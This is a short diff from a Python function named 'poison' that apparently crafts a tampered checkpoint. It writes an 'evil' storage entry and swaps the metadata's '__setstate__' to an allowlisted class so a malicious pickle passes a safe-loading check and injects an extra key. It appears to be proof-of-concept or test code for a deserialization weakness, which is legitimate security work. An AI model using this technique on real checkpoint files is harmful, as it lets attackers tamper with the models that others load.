@@ -117,7 +117,7 @@ def poison(folder: Path, key: str, trace: Path) -> None:
         evil = _StorageInfo(place.relative_path, file.tell(), len(content))
         file.write(content)
     slots = {
-        "__setstate__": list,  # takes any state and sets nothing
+        "__setstate__": StorageMeta,  # an allowed name that takes any state and sets nothing
         "state_dict_metadata": {**index.state_dict_metadata, key: BytesStorageMetadata()},
         "storage_data": {**index.storage_data, MetadataIndex(key): evil},
     }
